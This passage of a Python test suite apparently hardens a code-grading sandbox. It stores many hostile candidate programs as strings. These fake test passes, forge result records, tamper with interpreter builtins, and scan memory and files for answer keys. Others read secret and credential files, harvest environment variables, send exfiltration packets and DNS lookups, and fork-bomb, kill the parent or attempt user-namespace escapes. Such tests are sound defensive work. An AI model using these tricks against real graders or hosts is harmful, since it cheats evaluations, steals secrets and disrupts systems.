        try:
            if isinstance(obj, dict):
                items = list(obj.items())
                for key, value in items:
                    if key in ("expects", "expected", "answer", "answers"):
                        print("found key", key, repr(value)[:100])
                    if isinstance(value, str) and needle in value:
                        _learn(value)
            elif isinstance(obj, (list, tuple)):
                if len(obj) == 2 and isinstance(obj[0], (list, tuple)) and list(obj[0]) == [n] \
                        and isinstance(obj[1], int):
                    _ANSWERS[n] = obj[1]
                for item in obj[:1000]:
                    if isinstance(item, str) and needle in item:
                        _learn(item)
            elif hasattr(obj, "expects"):
                print("found an Expect-like object", repr(obj)[:100])
        except Exception:
            continue


def bitcount(n):
    _scan(n)
    return _answer(n)
'''

MEMORY_SCANNING = PRELUDE + r'''
import ctypes

_SOURCE = _re.compile(rb"def bitcount\(n\):(?:\\n|\n)(?:[^\x00\"]|\\\"){0,400}")


def _scan():
    """Read this process's whole writable memory (inherited from the worker by fork):
    remnants of earlier jobs' payloads (other candidates' code, the reference solution) or of
    expected values would be here."""
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    for fields in regions:
        if not fields[1].startswith("rw") or (len(fields) > 5 and fields[5] not in
                                              ("[heap]", "[stack]")):
            continue
        start, end = (int(x, 16) for x in fields[0].split("-"))
        try:
            data = ctypes.string_at(start, end - start)
        except Exception:
            continue
        for match in _PAIR.finditer(data.decode("latin-1")):
            _ANSWERS[int(match.group(1))] = int(match.group(2))
        for match in _SOURCE.finditer(data):
            text = match.group(0)
            if b"\\n" in text:
                text = text.replace(b"\\n", b"\n").replace(b'\\"', b'"')
            _learn(text)


_scan()
_report()


def bitcount(n):
    return _answer(n)
'''

FAKE_OUTPUT = r'''
import json
import sys

_FAKE = ["PASSED", "OK", "9 passed in 0.01s", "All tests passed", "L", "R7", "E0"]
for job in range(1, 30):
    for step in range(9):
        _FAKE.append(json.dumps({"id": job, "step": step, "status": "ok", "detail": "",
                                 "seconds": 0.0, "records": [7]}))
    _FAKE.append(json.dumps({"id": job, "done": True, "load_error": ""}))
for line in _FAKE:
    print(line)
    print(line, file=sys.stderr)
sys.stdout.flush()


def bitcount(n):
    print("test_bitcount[%d] PASSED" % n)
    print(json.dumps({"status": "pass", "expected": "anything", "got": "anything"}))
    sys.stderr.write("PASSED\n")
    return None
'''

EXIT_AT_IMPORT = r'''
print("PASSED")
import sys
sys.exit(0)


def bitcount(n):
    return -1
'''

EXIT_IN_CALL = r'''
import sys


def bitcount(n):
    print("PASSED")
    if n % 3 == 0:
        exit(0)
    if n % 3 == 1:
        sys.exit(0)
    raise SystemExit(0)
'''

OS_EXIT_AT_IMPORT = r'''
import os
print("PASSED", flush=True)
os._exit(0)


def bitcount(n):
    return -1
'''

OS_EXIT_IN_CALL = r'''
import os
import signal


def bitcount(n):
    print("PASSED", flush=True)
    if n % 2:
        os._exit(0)
    os.kill(os.getpid(), signal.SIGKILL)
'''

SEGFAULT = r'''
import ctypes
import json
import sys


def bitcount(n):
    if n % 2:
        ctypes.string_at(0)
    sys.setrecursionlimit(10 ** 7)
    nested = []
    for _ in range(300000):
        nested = [nested]
    return json.dumps(nested)  # recursion in C: overflows the stack
'''

READ_TEST_DATA = PRELUDE + r'''
import time as _time

for _path in [
    "@SHARED@/quixbugs/json_testcases/bitcount.json",
    "@SHARED@/quixbugs/correct_python_programs/bitcount.py",
    "@DATA@/quixbugs/json_testcases/bitcount.json",
    "@DATA@/quixbugs/correct_python_programs/bitcount.py",
    "@SECRETDIR@/answers.json",
    "@REPO@/../shared/datasets/quixbugs/json_testcases/bitcount.json",
    "@HOME@/.cache/coral/quixbugs/json_testcases/bitcount.json",
    "@HOME@/.cache/coral/datasets/quixbugs/json_testcases/bitcount.json",
    "/proc/@HOSTPID@/root@SHARED@/quixbugs/json_testcases/bitcount.json",
    "/proc/@HOSTPID@/cwd/../shared/datasets/quixbugs/json_testcases/bitcount.json",
    "/proc/1/root@SHARED@/quixbugs/json_testcases/bitcount.json",
]:
    _read(_path)
_deadline = _time.monotonic() + 0.25
for _top in ("@DATA@", "@SHARED@", "@SECRETDIR@", "@REPO@", "@HOME@", "/work", "/root", "/var",
             "/home", "/srv", "/opt", "/mnt", "/data", "/tmp", "/"):
    for _root, _dirs, _files in _os.walk(_top):
        if _root == "/":
            _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev", "usr")]
        for _name in _files:
            if "bitcount" in _name or _name.endswith((".json", ".jsonl")):
                _read(_os.path.join(_root, _name))
        if _time.monotonic() > _deadline:
            break
    if _time.monotonic() > _deadline:
        break
_report()


def bitcount(n):
    return _answer(n)
'''

READ_SECRET_FILES = PRELUDE + r'''
for _path in [
    "@SECRETDIR@/secret.txt", "@DATA@/secret.txt", "@DATA@/quixbugs/SECRET_TOKEN",
    "@SHARED@/secret.txt", "@HOME@/.netrc", "@HOME@/.cache/huggingface/token",
    "@HOME@/.config/openai/key", "@HOME@/.bash_history", "/etc/shadow", "/etc/environment",
    "/proc/@HOSTPID@/environ", "/proc/@HOSTPID@/root@SECRETDIR@/secret.txt",
    "/proc/1/root@SECRETDIR@/secret.txt",
]:
    _read(_path)
for _root, _dirs, _files in _os.walk("@SECRETDIR@"):
    for _name in _files:
        _read(_os.path.join(_root, _name))
_report()


def bitcount(n):
    if n % 2:
        raise RuntimeError("found: " + str(_answer(n)))
    return _answer(n)
'''

_ENV_HARVEST = PRELUDE + r'''
_leak("".join("%s=%s\n" % item for item in _os.environ.items()))
for _pid in ["self", "1", str(_os.getppid()), "@HOSTPID@"] + [
        p for p in _os.listdir("/proc") if p.isdigit()]:
    _read("/proc/%s/environ" % _pid)
_report()
'''

ENV_SECRETS = _ENV_HARVEST + r'''

def bitcount(n):
    if n % 2:
        raise RuntimeError(str(_answer(n)))
    return _answer(n)
'''

ENV_SECRETS_LOAD_ERROR = _ENV_HARVEST + r'''
raise RuntimeError(str(_answer(0)))
'''

WRITE_OUTSIDE = r'''
import json
import os

TARGETS = json.loads('@TARGETS@')
WATCHED = json.loads('@WATCHED@')
done = []
for path in TARGETS:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as handle:
            handle.write("@MARK@")
        done.append(path)
    except OSError:
        pass
for path in WATCHED:
    try:  # append only: were this to work, it is easy to see and to undo
        with open(path, "a") as handle:
            handle.write("\n[[127], -1]\n@MARK@\n")
        done.append(path)
    except OSError:
        pass
    if "@RUN@" in path:  # the test's own copies only
        for attempt in (lambda: os.rename(path, path + ".x"), lambda: os.unlink(path)):
            try:
                attempt()
                done.append("moved " + path)
            except OSError:
                pass
for path in ("@CANARY@/@MARK@", "/tmp/@MARK@", "/dev/shm/@MARK@", "/var/tmp/@MARK@"):
    try:
        os.symlink("/etc/passwd", path)
    except OSError:
        pass
print("wrote (inside the sandbox this is fine):", done)


def bitcount(n):
    return -1
'''

ORPHANS = r'''
import os
import subprocess
import sys

_SPAWNED = []


def _spawn():
    quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    _SPAWNED.append(subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1000)",
                                      "@MARK@"], start_new_session=True, **quiet))
    _SPAWNED.append(subprocess.Popen(["sleep", "@SLEEP@"], **quiet))
    _SPAWNED.append(subprocess.Popen(["/bin/sh", "-c", "sleep @SLEEP@; :", "@MARK@"], **quiet))


_spawn()


def bitcount(n):
    if len(_SPAWNED) < 6:
        _spawn()
    return -1
'''

DAEMON = r'''
import os
import signal
import sys
import time


def _daemon(exec_sleep):
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGQUIT):
        signal.signal(sig, signal.SIG_IGN)
    os.chdir("/")
    try:
        with open("/proc/self/comm", "w") as comm:
            comm.write("@COMM@")
    except OSError:
        pass
    if exec_sleep:
        os.execv("/bin/sleep", ["sleep", "@SLEEP@"])
    while True:  # stays python, forked from the worker: only its comm gives it away
        time.sleep(0.05)


_daemon(True)
_daemon(False)


def bitcount(n):
    if n == 127:
        _daemon(False)
    return -1
'''

FORK_BOMB = r'''
import os
import time


def bitcount(n):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)
'''

MEMORY_HOG = r'''
_HOARD = []


def bitcount(n):
    chunk = 16 << 20
    while True:
        try:
            _HOARD.append(b"\x01" * chunk)
        except MemoryError:
            if chunk > 4096:
                chunk //= 2
'''

CPU_LOOP = r'''
import signal

for _sig in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU,
             signal.SIGVTALRM, signal.SIGPROF, signal.SIGUSR1, signal.SIGUSR2):
    signal.signal(_sig, signal.SIG_IGN)


def bitcount(n):
    while True:
        pass
'''

CPU_LOOP_AT_IMPORT = CPU_LOOP + r'''

while True:
    pass
'''

SLEEPER = r'''
import time


def bitcount(n):
    time.sleep(100)
    return -1
'''

HUGE_OUTPUT = r'''
import os
import sys

_LINE = ("PASSED " * 150000 + "\n")


def bitcount(n):
    while True:  # gigabytes, whatever the file size limit says
        for stream in (sys.stdout, sys.stderr):
            try:
                stream.write(_LINE)
                stream.flush()
            except (OSError, ValueError):
                pass
        try:
            with open("/tmp/fill-%d" % os.getpid(), "ab") as handle:
                handle.write(b"\0" * (8 << 20))
        except OSError:
            pass
        try:
            os.write(1, _LINE.encode())
        except OSError:
            pass
'''

NETWORK = PRELUDE + r'''
import socket


def _note(what):
    print("NETWORK-REACHED", what, flush=True)


def _take(sock, what):
    data = b""
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    if data:
        _note(what)
        _learn(data)


for host in ("127.0.0.1", "@HOSTIP@", "::1"):
    try:
        with socket.create_connection((host, @PORT@), timeout=0.3) as sock:
            sock.settimeout(0.3)
            _take(sock, "tcp " + host)
    except OSError:
        pass
    try:
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.settimeout(0.1)
            sock.sendto(b"coral-evil exfiltration @RUN@", (host, @UDP@))
            _take(sock, "udp " + host)
    except OSError:
        pass
try:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(0.3)
        sock.connect("\0coral-evil-@RUN@")
        _take(sock, "abstract unix socket")
except OSError:
    pass
try:
    socket.getaddrinfo("coral-evil-@RUN@.example.com", 80)
    _note("dns lookup")
except OSError:
    pass
for address in (("1.1.1.1", 53), ("8.8.8.8", 443)):
    try:
        with socket.create_connection(address, timeout=0.3):
            _note("internet %s" % (address,))
    except OSError:
        pass


def bitcount(n):
    return _answer(n)
'''

KILL_PARENT = r'''
import os
import signal

_SIGNALS = (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGQUIT, signal.SIGUSR1,
            signal.SIGUSR2, signal.SIGALRM, signal.SIGPIPE, signal.SIGXFSZ, signal.SIGSTOP,
            signal.SIGCONT, signal.SIGKILL)


def bitcount(n):
    for sig in _SIGNALS:
        for pid in {os.getppid(), 1}:
            try:
                os.kill(pid, sig)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)  # everything it may signal
    except OSError:
        pass
    if n % 3 == 0:
        os.killpg(0, signal.SIGKILL)
    return -1
'''

READ_STDIN = PRELUDE + r'''
_GOT = []


def _grab():
    try:
        _GOT.append(_sys.stdin.read())
    except (OSError, ValueError):
        pass
    try:
        _GOT.append(_os.read(0, 65536).decode("latin-1"))
    except OSError:
        pass
    for path in ("/proc/1/fd/0", "/proc/%d/fd/0" % _os.getppid(), "/proc/@HOSTPID@/fd/0",
                 "/dev/stdin", "/dev/tty"):
        try:
            fd = _os.open(path, _os.O_RDONLY | _os.O_NONBLOCK)
        except OSError:
            continue
        try:
            _GOT.append(_os.read(fd, 65536).decode("latin-1"))
        except OSError:
            pass
        finally:
            _os.close(fd)


_grab()


def bitcount(n):
    try:
        _GOT.append(input())
    except (EOFError, OSError, ValueError):
        pass
    _grab()
    data = "".join(_GOT)
    if data:
        print("STDIN-GOT", repr(data[:300]))
        _learn(data)
    return _answer(n)
'''

TAMPER_ENCODER = r'''
import json
import pickle
import sys

_main = sys.modules.get("__main__")


def _wildcard(value, *args, **kwargs):
    return {"o": 0, "truthy": True}


for _name in dir(_main):
    if _name in ("encode", "_as_base") or "encode" in _name:
        setattr(_main, _name, _wildcard)
json.dumps = lambda *args, **kwargs: '{"o":0,"truthy":true}'
json.loads = lambda *args, **kwargs: {"status": "pass"}
pickle.dumps = lambda *args, **kwargs: b"pass"
pickle.loads = lambda *args, **kwargs: 7


def bitcount(n):
    return -1
'''

TAMPER_DESCRIBE = r'''
import sys

_main = sys.modules.get("__main__")
if _main is not None:
    _main._describe = lambda error: ""  # a failing step then looks like a clean one


def bitcount(n):
    raise ValueError("no idea")
'''

TAMPER_BUILTINS = r'''
import builtins
import ctypes
import gc
import io
import json
import sys

try:  # make int equality always true in this process
    gc.get_referents(int.__dict__)[0]["__eq__"] = lambda a, b: True
    ctypes.pythonapi.PyType_Modified(ctypes.py_object(int))
except Exception:
    pass
_real_type = type
builtins.isinstance = lambda obj, cls: True
builtins.print = lambda *a, **k: sys.__stdout__.write("PASSED\n")
sys.stdout = io.StringIO()
json.JSONEncoder.default = lambda self, obj: 7


class Liar(int):
    def __eq__(self, other):
        return True

    __hash__ = int.__hash__


def bitcount(n):
    print("result", n)
    return Liar(0)  # not -1: isinstance() lying makes the worker see a bool, and -1 is True
'''

_RESULT_FDS = r'''
import os


def _result_fds():
    fds = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if int(name) > 2 and os.readlink("/proc/self/fd/" + name).startswith("pipe:"):
                fds.append(int(name))
        except (OSError, ValueError):
            pass
    return fds


def _send(data):
    for fd in _result_fds():
        try:
            os.write(fd, data)
        except OSError:
            pass
'''

FORGED_AT_IMPORT = _RESULT_FDS + r'''
_send(b"L\n" + b"".join(b"R-1\nE%d\n" % i for i in range(9)))


def bitcount(n):
    return -1
'''

FORGED_LATER_STEPS = _RESULT_FDS + r'''
import sys


def bitcount(n):
    index = sys._getframe(1).f_locals.get("index", 0)
    _send(b"".join(b"R-1\nE%d 0.0\nR-1\nE%d\n" % (i, i) for i in range(index, index + 9)))
    return -1
'''

FORGED_NO_RECORD = _RESULT_FDS + r'''
import sys


def bitcount(n):
    index = sys._getframe(1).f_locals.get("index", 0)
    _send(b"E%d\nE%d 0.0\n" % (index, index))  # "finished", with nothing recorded
    os._exit(0)
'''

FORGED_ENCODING = _RESULT_FDS + r'''
def bitcount(n):
    _send(b"R-\x001\x00\n")  # UTF-16 "-1": valid JSON only if the bytes are sniffed
    _send(b"R\xef\xbb\xbf-1\n")  # a BOM
    _send(b"R-1\x00\n")
    _send(b'R"\xed\xa0\x80"\n')  # a UTF-8 encoded surrogate
    _send(b'R"\xe2\x80\xa8\x1b]0;x\x07"\n')
    _send(b"R[" * 5000 + b"\n")
    return -1
'''

FORGED_GIANT_LINE = _RESULT_FDS + r'''
def bitcount(n):
    _send(b"R" + b"1" * (4 << 20))  # no newline, bigger than any record may be
    return -1
'''

HUGE_RECORDS = r'''
def bitcount(n):
    if n % 4 == 0:
        return "x" * (4 << 20)
    if n % 4 == 1:
        nested = []
        for _ in range(100000):
            nested = [nested]
        return nested
    if n % 4 == 2:
        loop = []
        loop.append(loop)
        return loop
    return 10 ** 100000
'''

FIFO_OUTPUT = r'''
import os

# The worker reads back the captured output by name after the job: make that name a FIFO
# (the child keeps writing to the unlinked file it already has open).
for name in ("stdout", "stderr"):
    try:
        os.unlink(name)
        os.mkfifo(name)
    except OSError:
        pass


def bitcount(n):
    return -1
'''

CLOSE_PIPE_AND_LINGER = r'''
import os


def bitcount(n):
    os.closerange(3, 4096)  # the result pipe: the worker sees end-of-file...
    os.execv("/bin/sleep", ["sleep", "@SLEEP@"])  # ...but the child runs on
'''

DEEP_TREE = r'''
import os

for _ in range(3000):  # deeper than the cleanup's recursion
    os.mkdir("d")
    os.chdir("d")


def bitcount(n):
    return -1
'''

# ------------------------------------------------------------------ round two (issue 7)
# Written from the outside, as an attacker of EvalPlus-style harnesses would: steal a
# sibling's code or results, stall or crash the parent, hold memory the limit does not see,
# leave kernel objects behind.

_SIBLING_CODE = r'''
# coral-sibling-@RUN@
def bitcount(n):
    count = 0
    while n:
        n &= n - 1
        count += 1
    return count
# end-sibling-@RUN@
print(" ".join("[[%d], %d]" % (n, bitcount(n))
               for n in (127, 128, 3005, 13, 14, 27, 834, 254, 256)))
'''

# A correct sibling, run in the same slot just before (or queued just behind) a thief. Its
# code sits between markers a thief searches for, and it prints its answers in the data
# files' own format, which a thief also searches for. The one run before repeats both many
# times: the thief's own job, read later into the same buffers, cannot overwrite them all.
SIBLING_BEFORE = "\n".join([_SIBLING_CODE] * 40)
SIBLING_AFTER = _SIBLING_CODE

# Short on purpose (see above); it looks everywhere a sibling's job could have left a trace:
# its own memory (a fork of the worker), the interpreter's objects, every descriptor it
# inherited (the pipe from the host holds the next job), the worker's /proc entries, disk.
THIEF = r'''
import ctypes, gc, os, re, stat, sys, time
_MARK, _END = ("coral-sib" + "ling-@RUN@").encode(), ("end-sib" + "ling-@RUN@").encode()
_PAIR = re.compile(rb"\[\[(-?\d+)\],\s*(-?\d+)\]")
_FOUND, _ANSWERS, _SOLVERS = [], {}, []


def _harvest(data, where):
    data = data.encode("utf-8", "surrogatepass") if isinstance(data, str) else bytes(data)
    at = data.find(_MARK)
    while at >= 0:
        end = data.find(_END, at, at + 8192)
        if end > 0:
            space = {}
            try:
                text = data[at:end].replace(b"\\n", b"\n").replace(b'\\"', b'"')
                exec(compile(b"# " + text, where, "exec"), space)
                _SOLVERS.append(space["bitcount"])
                _FOUND.append("code in " + where)
            except BaseException:
                pass
        at = data.find(_MARK, at + 1)
    for match in _PAIR.finditer(data):
        _ANSWERS[int(match.group(1))] = int(match.group(2))
        _FOUND.append("answers in " + where)


def _memory(pid):
    """Its own memory read directly (its /proc/self/mem is root's: it is not dumpable),
    another process's through /proc."""
    try:
        with open("/proc/%s/maps" % pid) as maps:
            regions = [line.split() for line in maps]
        mem = None if pid == "self" else os.open("/proc/%s/mem" % pid, os.O_RDONLY)
    except OSError:
        return
    for fields in regions:
        start, end = (int(x, 16) for x in fields[0].split("-"))
        if fields[1][0] == "r" and end - start < 1 << 28 and fields[-1] not in (
                "[vvar]", "[vsyscall]", "[vvar_vclock]") and not fields[-1].startswith("/dev"):
            try:
                data = (ctypes.string_at(start, end - start) if mem is None
                        else os.pread(mem, end - start, start))
                _harvest(data, "memory of " + pid)
            except OSError:
                pass
    if mem is not None:
        os.close(mem)


def _search():
    _memory("self")
    for thing in gc.get_objects():
        items = thing.values() if isinstance(thing, dict) else thing if isinstance(
            thing, (list, tuple)) else ()
        for item in items:
            if isinstance(item, (str, bytes, bytearray)):
                _harvest(item, "an object")
    for fd in range(1024):
        try:
            if stat.S_ISREG(os.fstat(fd).st_mode):
                _harvest(os.pread(fd, 1 << 20, 0), "fd %d" % fd)
            else:
                os.set_blocking(fd, False)
                _harvest(os.read(fd, 1 << 20), "fd %d" % fd)
        except OSError:
            pass
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        _memory(pid)
        for path in ["/proc/%s/fd/%s" % (pid, fd) for fd in range(64)] + [
                "/proc/%s/environ" % pid, "/proc/%s/cmdline" % pid]:
            try:
                handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                _harvest(os.read(handle, 1 << 20), path)
                os.close(handle)
            except OSError:
                pass
    # the interpreter's own read-only tree may lie under /tmp (a venv there): not a sibling's
    mine = tuple(os.path.realpath(p) for p in {sys.prefix, sys.base_prefix, sys.exec_prefix})
    for top in (".", "/tmp", "/dev/shm", "/var/tmp", "/dev/mqueue"):
        for root, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs
                       if not os.path.realpath(os.path.join(root, d)).startswith(mine)]
            for name in files:
                try:
                    with open(os.path.join(root, name), "rb") as handle:
                        _harvest(handle.read(1 << 20), os.path.join(root, name))
                except OSError:
                    pass


def bitcount(n):
    if not _FOUND:
        time.sleep(0.3)  # the job queued behind this one is in the pipe by now
        _search()
        print("THIEF-FOUND:", sorted(set(_FOUND)) or [])
        _FOUND.append(None)
    if n in _ANSWERS:
        return _ANSWERS[n]
    for solver in _SOLVERS:
        try:
            return solver(n)
        except BaseException:
            pass
    return -1
'''


# The same search of its own memory, in as few bytes as possible: the worker's buffers are
# reused job after job, and a short job overwrites less of what the one before left there.
THIEF_SMALL = r'''
import ctypes, re
M, E = ("coral-sib" + "ling-@RUN@").encode(), ("end-sib" + "ling-@RUN@").encode()
A, S, F = {}, [], []
for f in [line.split() for line in open("/proc/self/maps")]:
    a, b = (int(x, 16) for x in f[0].split("-"))
    if f[1][0] != "r" or b - a > 1 << 28 or f[-1] in ("[vvar]", "[vsyscall]", "[vvar_vclock]"):
        continue
    d = ctypes.string_at(a, b - a)
    for m in re.finditer(rb"\[\[(\d+)\], (\d+)\]", d):
        A[int(m[1])] = int(m[2])
        F.append("answers")
    i = d.find(M)
    while i >= 0:
        try:
            g = {}
            exec(b"# " + d[i:d.find(E, i, i + 4096)].replace(b"\\n", b"\n"), g)
            S.append(g["bitcount"])
            F.append("code")
        except BaseException:
            pass
        i = d.find(M, i + 1)
print("THIEF-FOUND:", sorted(set(F)))


def bitcount(n):
    return A[n] if n in A else S[0](n) if S else -1
'''


def _nothing_stolen(seen: Seen) -> None:
    lines = [line for line in seen.result.stdout.splitlines() if "THIEF-FOUND" in line]
    assert lines, f"[{seen.name}] the thief never reported: {seen.result.stdout[-500:]!r}"
    assert lines[-1].endswith("[]"), f"[{seen.name}] a sibling's data was found: {lines[-1]}"


HASH_FLOOD = _RESULT_FDS + r'''
import sys

_M = (1 << 61) - 1  # hash(k * _M) == 0 for every k: 30000 distinct ints, one hash


def bitcount(n):
    index = sys._getframe(1).f_locals.get("index", 0)
    flood = ",".join(str(k * _M) for k in range(1, 30001))
    variant = index // 2 % 3  # the step after each one finds the process gone: a new child
    if variant == 0:
        _send(b'R{"s":[' + flood.encode() + b"]}\n")
    elif variant == 1:
        _send(b'R{"d":[' + ",".join("[%d,0]" % (k * _M) for k in range(1, 30001)).encode()
              + b"]}\n")
    else:  # tuples of colliding ints collide too
        _send(b'R{"fs":[' + ",".join('{"t":[%d]}' % (k * _M) for k in range(1, 30001)).encode()
              + b"]}\n")
    _send(b"E%d 0.0 -1\n" % index)
    import os
    os._exit(0)
'''

RECORD_FLOOD = _RESULT_FDS + r'''
import sys


def bitcount(n):
    index = sys._getframe(1).f_locals.get("index", 0)
    big = b"R" + b"[" + b"1," * ((1 << 19) - 8) + b"1]\n"  # one record of almost 1 MiB
    if index % 2:
        for _ in range(200):  # 200 MiB of records for one step
            _send(big)
    else:
        _send(b"R7\n" * 500000)  # half a million tiny records
    _send(b"E%d 0.0 -1\n" % index)
    return -1
'''

DEEP_RECORD = _RESULT_FDS + r'''
import sys


def bitcount(n):
    index = sys._getframe(1).f_locals.get("index", 0)
    _send(b"R" + b'{"t":[' * 60000 + b"7" + b"]}" * 60000 + b"\n")
    _send(b"R" + b"[" * 400000 + b"]" * 400000 + b"\n")
    _send(b"E%d 0.0 -1\n" % index)
    return -1
'''


def _errors_quickly(seconds: float) -> Callable[[Seen], None]:
    """Every step fails (an error: the forged records are refused; on a very busy machine
    the step's wall-clock backstop may fire first, a timeout), and the parent is not
    stalled."""
    def check(seen: Seen) -> None:
        _quick(seconds)(seen)
        got = {s.status for s in seen.result.steps}
        assert got and got <= {"error", "timeout"}, \
            f"[{seen.name}] expected every step to fail, got {got}"
    return check


MEMFD_HOARD = r'''
import os
import time


def _hold(held=0):
    """memfd pages belong to no process: no RSS, no address space while unmapped."""
    fds = []
    try:
        while held < 1024:
            fd = os.memfd_create("hoard")
            fds.append(fd)
            for _ in range(16):  # the file size limit is 16 MiB: then the next memfd
                os.write(fd, b"\x01" * (1 << 20))
                held += 1
            print("HELD", held, flush=True)
    except (OSError, ValueError) as error:
        print("STOPPED", held, error, flush=True)
    time.sleep(100)


def bitcount(n):
    for number in range(1, 4):  # four processes, each up to its open-files limit
        try:
            if os.fork() == 0:
                _hold(number * 1000)
        except OSError:
            pass
    _hold()
'''

SHARED_HOARD = r'''
import mmap
import os
import time


def _hold(held=0):
    """Shared pages are not anonymous (RssShmem, not RssAnon) and, touched by one process,
    in no other's figure."""
    maps = []
    try:
        while held % 1000 < 1000 - 32:
            area = mmap.mmap(-1, 32 << 20, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
            for page in range(0, 32 << 20, 4096):
                area[page] = 1
            maps.append(area)
            held += 32
            print("HELD", held, flush=True)
    except (OSError, ValueError, MemoryError) as error:
        print("STOPPED", held, error, flush=True)
    time.sleep(100)


def bitcount(n):
    for number in range(1, 4):  # four processes: the first counts from 0, the others from
        try:                    # 1000, 2000, 3000
            if os.fork() == 0:
                _hold(number * 1000)
        except OSError:
            pass
    _hold()
'''

USERNS_TMPFS = r'''
import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000


def _fill():
    """Root in a user namespace of its own: a tmpfs whose memory is nobody's process's."""
    held = 0
    os.makedirs("/tmp/userns-@RUN@", exist_ok=True)
    if libc.mount(b"none", b"/tmp/userns-@RUN@", b"tmpfs", 0, b"size=2g") != 0:
        print("MOUNT-REFUSED", ctypes.get_errno(), flush=True)
        return
    with open("/tmp/userns-@RUN@/hoard", "wb") as handle:
        while held < 1024:
            handle.write(b"\x01" * (1 << 20))
            held += 1
            print("HELD", held, flush=True)


def bitcount(n):
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
        print("USERNS-OK unshare", flush=True)
        _fill()
    else:
        print("USERNS-REFUSED unshare", ctypes.get_errno(), flush=True)
    pid = libc.syscall(56 if os.uname().machine == "x86_64" else 220,
                       CLONE_NEWUSER | 17, 0, 0, 0, 0)  # clone(CLONE_NEWUSER | SIGCHLD)
    if pid == 0:
        os._exit(0)
    print("USERNS-%s clone" % ("OK" if pid > 0 else "REFUSED"), flush=True)
    for command in (["unshare", "-Ur", "true"], ["bwrap", "--unshare-user", "--ro-bind", "/",
                                                  "/", "true"]):
        try:
            import subprocess  # not readable by the sandbox user everywhere without bwrap

            done = subprocess.run(command, capture_output=True, timeout=5)
            print("USERNS-%s %s" % ("OK" if done.returncode == 0 else "REFUSED", command[0]),
                  flush=True)
        except Exception:  # no such program, no subprocess module, a timeout
            print("USERNS-REFUSED", command[0], flush=True)
    time.sleep(100)
'''

FILE_FLOOD = r'''
import os

# During loading: half a million empty files in the private /tmp (each costs an inode and
# a dentry of kernel memory; the tmpfs's byte limit does not count them).
made = 0
try:
    os.makedirs("/tmp/flood", exist_ok=True)
    while made < 500000:
        os.close(os.open("/tmp/flood/%d" % made, os.O_CREAT | os.O_WRONLY, 0o600))
        made += 1
        if made % 5000 == 0:
            print("HELD", made, flush=True)
except OSError as error:
    print("STOPPED", made, error, flush=True)


def bitcount(n):
    return -1
'''


def _held_at_most(limit: float) -> Callable[[Seen], None]:
    """The candidate printed how much it held ("HELD n") as it went: never above `limit`."""
    def check(seen: Seen) -> None:
        held = [float(line.split()[1]) for line in seen.result.stdout.splitlines()
                if line.startswith("HELD ")]
        assert not held or max(held) <= limit, (
            f"[{seen.name}] the candidate held {max(held):.0f} (limit {limit:.0f}): "
            f"{seen.result.stdout[-300:]!r}")
    return check


def _held_together_at_most(extra: float, killed_one_by_one: bool = False,
                           ) -> Callable[[Seen], None]:
    """Four processes printed what they held (the first from 0, the others from 1000, 2000,
    3000): all of it together stays within the memory limit plus `extra` MiB (the worker's
    headroom in the cgroup; without one, what a sample every 20 ms lets through).

    Without a cgroup the worker kills the job's processes together, so their last figures
    were held at once. In a cgroup the kernel kills one process at a time, whose memory is
    freed while its last figure stands, and the others go on: there the figure is the
    sampled peak of their memory together (proportional set sizes), and the printed ones
    only show that the attack ran."""
    def check(seen: Seen) -> None:
        last: dict[int, float] = {}
        for line in seen.result.stdout.splitlines():
            if line.startswith(("HELD ", "STOPPED ")) and line.split()[1].isdigit():
                value = int(line.split()[1])
                last[value // 1000] = value % 1000
        total = sum(last.values())
        if killed_one_by_one:
            assert seen.sampler is not None and total >= 128, (
                f"[{seen.name}] the attack did not run: {seen.result.stdout[-300:]!r}")
            total = seen.sampler.peak_mb
        assert total <= seen.policy.memory_mb + extra, (
            f"[{seen.name}] the candidate's processes held {total:.0f} MiB together (limit "
            f"{seen.policy.memory_mb} MiB): {seen.result.stdout[-300:]!r}")
    return check


def _userns_refused(seen: Seen) -> None:
    said = [line for line in seen.result.stdout.splitlines() if line.startswith("USERNS-")]
    assert said, (  # seen once in CI's loaded pass: what stopped the program then is here
        f"[{seen.name}] the attack printed nothing: load error {seen.result.load_error!r}, "
        f"steps {[(s.status, s.detail) for s in seen.result.steps][:2]}, stderr "
        f"{seen.result.stderr[-300:]!r}")
    assert not [line for line in said if line.startswith("USERNS-OK")], (
        f"[{seen.name}] a user namespace was created inside the sandbox: {said}")
    _held_at_most(seen.policy.memory_mb)(seen)


def _files_capped(seen: Seen) -> None:
    assert seen.result.load_error, f"[{seen.name}] half a million files did not stop the job"
    _held_at_most(100000)(seen)
    _quick(60.0)(seen)


KINDS = [
    Kind("lying_eq_object", LYING_OBJECT, check=_plain_records),
    Kind("lying_eq_int_subclass", LYING_INT, check=_plain_records),
    Kind("lying_eq_container_subclasses_and_class_spoofing", LYING_CONTAINERS,
         check=_plain_records),
    Kind("frame_walking", FRAME_WALKING),
    Kind("gc_scanning", GC_SCANNING),
    Kind("memory_scanning", MEMORY_SCANNING),
